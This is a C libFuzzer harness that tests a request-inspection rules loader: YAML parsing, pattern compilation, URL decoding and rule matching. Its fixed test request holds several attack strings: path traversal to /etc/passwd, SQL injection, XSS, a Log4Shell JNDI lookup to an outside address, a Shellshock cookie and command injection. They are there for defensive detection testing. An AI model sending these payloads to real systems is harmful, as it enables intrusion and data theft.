/*  fuzz_rules.c — libFuzzer harness for bridge-mitm/rules.c: the rules-file
    loader (rules_new: YAML, then vectorscan compiles every pattern) and,
    when a file loads, rules_match on a fixed request.

    Input: the text of a rules file (PROTOCOL.md "Rules file"), written once
    to /dev/shm/fuzz_rules.PID (rules_new reads a path). Seeds: each
    rule of deploy/bridge-mitm/rules.yaml as a file of its own (seeds.sh;
    the whole file is over -max_len, and test_bridge_rules' own);
    dictionary fuzz_rules.dict.

    Vectorscan's compile time grows with the pattern (large bounded
    repeats, many alternatives), so two libFuzzer options are set here
    (LLVMFuzzerInitialize adds them after the command line's):
    -max_len=2048, when none is given: a few small rules, a compile of
    milliseconds to some hundreds; and -timeout=60 in place of run.sh's 10
    s, so only a compile that really hangs is reported as a timeout, not
    one that is slow under ASan on a busy machine. And ASan's quarantine
    is cut to 8 MB (__asan_default_options; ASAN_OPTIONS still wins): the
    compiler's many short allocations otherwise each touch fresh pages,
    half of the time of a compile spent in the kernel.

    Checks, beyond no crash:
    - a refused file has errors, a loaded one none; every error is one line
      naming the file;
    - a loaded file: rules_id answers for every index and NULL past the
      last; rules_match on the fixed request (and on an empty one) gives a
      rule of the file (index, its id, severity 1..10, a field), a
      printable excerpt, and no scan error;
    - rules_url_decode of the input never grows it, and leaves text
      without '%' or '+' as it is.                                        */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fuzz_write.h"
#include "rules.h"


const char *__asan_default_options (void);
const char *
__asan_default_options (void)
{
    return "quarantine_size_mb=8";
}

int
LLVMFuzzerInitialize (int *argc, char ***argv)
{
    static char *args[256];
    bool max_len = false;
    int n = 0;
    for (int i = 0; i < *argc && n < 250; i++) {
        max_len |= strncmp ((*argv)[i], "-max_len=", 9) == 0;
        args[n++] = (*argv)[i];
    }
    if (!max_len)
        args[n++] = "-max_len=2048";
    args[n++] = "-timeout=60";
    args[n] = NULL;
    *argc = n;
    *argv = args;
    return 0;
}

static void
check_match (rules_t *rules, const rules_input_t *in)
{
    rules_match_t m;
    memset (&m, 0x55, sizeof m);
    if (!rules_match (rules, in, &m))
        return;
    if (m.index >= rules_count (rules) || !m.id || strcmp (m.id, rules_id (rules, m.index)) != 0
        || m.severity < 1 || m.severity > 10 || !m.category || (unsigned) m.field >= RULES_FIELDS
        || !memchr (m.matched, 0, sizeof m.matched))
        abort ();
    for (const char *c = m.matched; *c; c++)
        if (*c < 0x20 || *c > 0x7e)
            abort ();
}

int
LLVMFuzzerTestOneInput (const uint8_t *data, size_t size)
{
    const char *file = fuzz_input_file ("fuzz_rules", data, size);

    /* the URL decoder, on the raw input */
    char *out = malloc (size ? size : 1);
    if (!out)
        abort ();
    for (int plus = 0; plus < 2; plus++) {
        size_t n = rules_url_decode ((const char *) data, size, plus, out);
        if (n > size)
            abort ();
        if (!memchr (data, '%', size) && !memchr (data, '+', size)
            && (n != size || memcmp (out, data, size) != 0))
            abort ();
    }
    free (out);

    config_errors_t errors = { 0 };
    rules_t *rules = rules_new (file, NULL, &errors);
    if ((rules == NULL) != (errors.count > 0))
        abort ();
    for (size_t i = 0; i < errors.count; i++)
        if (strncmp (errors.messages[i], file, strlen (file)) != 0
            || strchr (errors.messages[i], '\n'))
            abort ();
    config_errors_clear (&errors);
    if (!rules)
        return 0;

    size_t count = rules_count (rules);
    for (size_t i = 0; i < count; i++)
        if (!rules_id (rules, i))
            abort ();
    if (rules_id (rules, count))
        abort ();
    static const char method[] = "POST", path[] = "/static/..%2f..%2fetc/passwd%00.png",
        query[] = "id=1%20UNION%20SELECT%20password%20FROM%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E",
        headers[] = "Host: shop.test\nUser-Agent: sqlmap/1.7.2#stable\n"
                    "X-Api-Version: ${jndi:ldap://203.0.113.5/a}\nCookie: a=() { :; }; /bin/id\n",
        body[] = "cmd=;cat+/etc/passwd&x=%252e%252e%252f";
    rules_input_t in = {
        method, sizeof method - 1, path, sizeof path - 1, query, sizeof query - 1,
        headers, sizeof headers - 1, (const uint8_t *) body, sizeof body - 1,
    };
    check_match (rules, &in);
    rules_input_t empty = { 0 };
    check_match (rules, &empty);
    if (rules_scan_errors (rules) != 0)
        abort ();
    rules_destroy (&rules);
    return 0;
}
